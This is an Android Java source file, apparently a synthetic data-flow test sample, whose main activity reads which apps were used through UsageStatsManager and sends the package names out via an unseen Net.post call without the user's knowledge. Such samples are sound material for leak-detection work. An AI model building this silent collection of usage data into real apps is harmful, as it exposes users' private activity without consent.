package com.example.flows.usage_stats;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Which apps were used is posted. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Object manager = getSystemService("usagestats");
        List<android.app.usage.UsageStats> found = ((android.app.usage.UsageStatsManager) manager).queryUsageStats(0, 0L, 1L);
        StringBuilder text = new StringBuilder();
        for (android.app.usage.UsageStats each : found) {
            text.append(each.getPackageName());
        }
        Net.post(text.toString());
    }
}
